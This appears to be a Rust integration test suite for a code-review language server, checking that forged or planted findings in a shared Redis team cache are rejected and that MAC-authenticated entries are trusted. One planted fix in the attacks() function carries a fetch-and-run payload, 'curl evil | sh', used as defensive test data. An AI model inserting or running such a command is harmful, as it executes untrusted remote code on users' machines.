//! The team tier's values are untrusted (issue 13 point 9), with real processes and a real
//! redis-server: entries planted directly in Redis (a fix over the whole file, a span outside
//! the file, an unknown source, a huge list) are ignored by `scan` and by the server, and
//! `--fail-on error` is not flipped; with `[cache] team_key_env`, entries without a valid MAC
//! are ignored while another process's entries (same secret) are used.
//!
//! Like the other Redis tests (tests/store_redis.rs), these need `redis-server`
//! (`$REVIEW_LSP_REDIS_SERVER` or on PATH; `scripts/install-redis.sh`) and fail without it.

mod common;

use std::path::Path;
use std::process::Output;

use common::redis::RedisServer;
use serde_json::{Value, json};

const NAMESPACE: &str = "review-lsp";
const SECRET_VAR: &str = "REVIEW_LSP_TEST_TEAM_SECRET";

/// A file with warnings only (`== None`), 45 lines long, so `--fail-on error` passes on it.
fn source_text() -> String {
    let mut text = String::from("def check(x):\n    if x == None:\n        return 1\n    return 2\n");
    for i in 0..41 {
        text.push_str(&format!("V{i} = {i}\n"));
    }
    text
}

/// The team's Redis (and secret) are the user's own settings: they live in the user config
/// file, where a repository cannot put them (`user_config`, read by [`scan`]).
fn project(dir: &Path, redis: &str, extra: &str) {
    std::fs::write(dir.join("m.py"), source_text()).unwrap();
    std::fs::write(user_config(dir), format!("[cache]\nredis_url = \"{redis}\"\n{extra}")).unwrap();
}

fn user_config(dir: &Path) -> std::path::PathBuf {
    dir.join(".user-config.toml")
}

/// `scan --fail-on error` on a machine of its own (`cache`: a fresh redb), with `secret` in
/// the team secret variable when given.
fn scan(dir: &Path, cache: &str, secret: Option<&str>) -> Output {
    let mut command = common::command();
    command
        .args(["scan", ".", "--format", "json", "--fail-on", "error"])
        .current_dir(dir)
        .env("REVIEW_LSP_CONFIG", user_config(dir))
        .env("XDG_CACHE_HOME", dir.join(cache))
        .env_remove(SECRET_VAR);
    if let Some(secret) = secret {
        command.env(SECRET_VAR, secret);
    }
    command.output().unwrap()
}

fn report(out: &Output) -> Value {
    serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("not JSON ({e}); stderr: {}", String::from_utf8_lossy(&out.stderr)))
}

/// What a user sees of the findings: rule, line, severity, message, fix.
fn seen(report: &Value) -> Vec<String> {
    let mut out: Vec<String> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| format!("{} {} {} {} {}", f["rule"], f["line"], f["severity"], f["message"], f["fix"]))
        .collect();
    out.sort();
    out
}

fn raw(server: &RedisServer) -> redis::Connection {
    redis::Client::open(server.url()).unwrap().get_connection().unwrap()
}

/// One stored entry, split as the team tier lays it out:
/// `[tags length u32 LE][tags JSON][format u8][created u64 LE][findings JSON]`, plus the MAC
/// (32 bytes) at the end when the team uses a secret.
struct Entry {
    key: String,
    head: Vec<u8>,
    findings: Vec<Value>,
    /// A whole-file entry (lines absolute) rather than a chunk's (lines relative to the chunk).
    whole_file: bool,
}

fn entries(conn: &mut redis::Connection, sealed: bool) -> Vec<Entry> {
    let keys: Vec<String> = redis::cmd("KEYS").arg(format!("{NAMESPACE}:c:*")).query(conn).unwrap();
    assert!(!keys.is_empty(), "the first scan stored entries in Redis");
    keys.into_iter()
        .map(|key| {
            let mut value: Vec<u8> = redis::cmd("GET").arg(&key).query(conn).unwrap();
            if sealed {
                value.truncate(value.len() - 32);
            }
            let tags_len = u32::from_le_bytes(value[..4].try_into().unwrap()) as usize;
            let tags: Value = serde_json::from_slice(&value[4..4 + tags_len]).unwrap();
            let split = 4 + tags_len + 9;
            let findings: Vec<Value> = serde_json::from_slice(&value[split..]).unwrap();
            let whole_file = tags["agents"].as_str().unwrap().contains(',');
            Entry { key, head: value[..split].to_vec(), findings, whole_file }
        })
        .collect()
}

/// Replaces every entry's findings with `plant(entry)`, keeping its header; `mac` is appended
/// as is (a forger's guess) when given.
fn plant(conn: &mut redis::Connection, entries: &[Entry], mac: Option<&[u8]>, plant: impl Fn(&Entry) -> Vec<Value>) {
    for entry in entries {
        let mut value = entry.head.clone();
        value.extend(serde_json::to_vec(&plant(entry)).unwrap());
        if let Some(mac) = mac {
            value.extend_from_slice(mac);
        }
        let _: () = redis::cmd("SET").arg(&entry.key).arg(value).query(conn).unwrap();
    }
}

fn planted(line: u32, end_line: u32, source: &str, fix: Value) -> Value {
    json!({
        "rule": "python/security/eval", "category": "security", "severity": "error", "source": source,
        "message": "PLANTED finding", "fix": fix,
        "span": {"start_line": line, "start_col": 0, "end_line": end_line, "end_col": 1},
    })
}

/// The attacks, each as what replaces an entry's findings.
fn attacks() -> Vec<(&'static str, Box<dyn Fn(&Entry) -> Vec<Value>>)> {
    let whole_file_fix =
        json!({"start_line": 0, "end_line": 44, "replacement": "import os; os.system('curl evil | sh')\n"});
    vec![
        (
            "a one-line finding whose fix covers the whole file",
            Box::new(move |e: &Entry| {
                let mut out = e.findings.clone();
                out.push(planted(1, 1, "offline", whole_file_fix.clone()));
                out
            }),
        ),
        (
            "a finding spanning the whole file with a whole-file fix",
            Box::new(|e: &Entry| {
                let fix = json!({"start_line": 0, "end_line": 44, "replacement": "pass\n"});
                let mut out = e.findings.clone();
                out.push(planted(0, if e.whole_file { 44 } else { 3 }, "offline", fix));
                out
            }),
        ),
        ("a span outside the file", Box::new(|_: &Entry| vec![planted(5000, 5000, "offline", Value::Null)])),
        ("an unknown source", Box::new(|_: &Entry| vec![planted(1, 1, "evil:model", Value::Null)])),
        ("a huge list", Box::new(|_: &Entry| (0..20_000).map(|_| planted(1, 1, "offline", Value::Null)).collect())),
    ]
}

#[test]
fn planted_entries_are_ignored_by_scan_and_fail_on_error_holds() {
    let redis = RedisServer::start();
    let dir = tempfile::tempdir().unwrap();
    let dir = dir.path();
    project(dir, &redis.url(), "");
    let first = scan(dir, "machine-0", None);
    assert_eq!(first.status.code(), Some(0), "warnings only: {}", String::from_utf8_lossy(&first.stderr));
    let baseline = seen(&report(&first));
    assert!(!baseline.is_empty(), "the offline rule found the `== None`");
    let mut conn = raw(&redis);

    for (i, (what, attack)) in attacks().into_iter().enumerate() {
        // Each round re-reads the entries: the previous scan overwrote the planted ones.
        let found = entries(&mut conn, false);
        plant(&mut conn, &found, None, attack);
        let out = scan(dir, &format!("machine-{}", i + 1), None);
        assert_eq!(seen(&report(&out)), baseline, "{what}: only the offline findings");
        assert_eq!(out.status.code(), Some(0), "{what}: --fail-on error was flipped");
        assert_eq!(report(&out)["stats"]["cache_hits"], 0, "{what}: not served as a hit");
    }

    // Control: a planted entry that holds up (the real finding, reworded) IS used, so the
    // rounds above read Redis and rejected what they found. Only a MAC stops this one.
    let found = entries(&mut conn, false);
    plant(&mut conn, &found, None, reworded);
    let out = scan(dir, "machine-control", None);
    assert!(seen(&report(&out)).iter().any(|f| f.contains("REWORDED")), "{:?}", seen(&report(&out)));
}

fn reworded(entry: &Entry) -> Vec<Value> {
    let mut findings = entry.findings.clone();
    for finding in &mut findings {
        finding["message"] = json!("REWORDED by whoever writes to Redis");
    }
    findings
}

#[test]
fn planted_entries_are_ignored_by_the_server() {
    let redis = RedisServer::start();
    let dir = tempfile::tempdir().unwrap();
    project(dir.path(), &redis.url(), "");
    assert_eq!(scan(dir.path(), "machine-0", None).status.code(), Some(0));
    let mut conn = raw(&redis);
    let (what, attack) = attacks().into_iter().next().unwrap();
    let found = entries(&mut conn, false);
    plant(&mut conn, &found, None, attack);

    let opts = common::Options { init_options: json!({"cache": {"redis_url": redis.url()}}), ..Default::default() };
    let mut c = common::LspClient::start(dir.path(), opts);
    let uri = common::file_uri(&dir.path().join("m.py"));
    c.open(&uri, "python", 1, &source_text());
    let diagnostics = c.diagnostics(&uri, Some(1));
    let messages: Vec<&str> =
        diagnostics["diagnostics"].as_array().unwrap().iter().filter_map(|d| d["message"].as_str()).collect();
    assert!(!messages.is_empty(), "the offline finding is shown");
    assert!(messages.iter().all(|m| !m.contains("PLANTED")), "{what}: {messages:?}");
    assert!(common::codes(&diagnostics).contains(&"python/correctness/none-comparison".to_string()), "{what}");
    assert!(!common::codes(&diagnostics).contains(&"python/security/eval".to_string()), "{what}");
    let stats = c.request("workspace/executeCommand", json!({"command": "review-lsp.showStats"}));
    let rejected = stats["cache"]["store"]["team_rejected"].as_u64().unwrap();
    assert!(rejected >= 1, "counted: {stats}");
    assert_eq!(stats["cache"]["store"]["team_hits"], 0, "{stats}");
    assert!(c.shutdown().success());
}

#[test]
fn with_a_team_secret_only_authenticated_entries_are_used() {
    let redis = RedisServer::start();
    let dir = tempfile::tempdir().unwrap();
    let dir = dir.path();
    project(dir, &redis.url(), &format!("team_key_env = \"{SECRET_VAR}\"\n"));
    let secret = Some("correct horse battery staple");

    let first = scan(dir, "machine-a", secret);
    assert_eq!(first.status.code(), Some(0));
    let baseline = seen(&report(&first));
    let written: Vec<Vec<u8>> = {
        let mut conn = raw(&redis);
        let keys: Vec<String> = redis::cmd("KEYS").arg(format!("{NAMESPACE}:c:*")).query(&mut conn).unwrap();
        keys.iter().map(|k| redis::cmd("GET").arg(k).query(&mut conn).unwrap()).collect()
    };
    let stderr = String::from_utf8_lossy(&first.stderr);
    assert!(!stderr.contains("correct horse"), "the secret is never logged: {stderr}");
    // Another process with the same secret: every entry is a hit.
    let second = scan(dir, "machine-b", secret);
    assert_eq!(report(&second)["stats"]["cache_hits"], 1, "{}", String::from_utf8_lossy(&second.stdout));
    assert_eq!(seen(&report(&second)), baseline);
    // A process with another secret trusts none of them.
    let other = scan(dir, "machine-c", Some("another team"));
    assert_eq!(report(&other)["stats"]["cache_hits"], 0);

    // Forged entries that would pass validation (the real finding, reworded): without a MAC,
    // and with the original MAC (now wrong for the changed value), both ignored.
    let mut conn = raw(&redis);
    for (round, mac) in [None, Some(&written[0][written[0].len() - 32..])].into_iter().enumerate() {
        let found = entries(&mut conn, true);
        plant(&mut conn, &found, mac, reworded);
        let out = scan(dir, &format!("machine-forged-{round}"), secret);
        assert_eq!(seen(&report(&out)), baseline, "round {round}: forged entries ignored");
        assert_eq!(report(&out)["stats"]["cache_hits"], 0, "round {round}");
    }
}
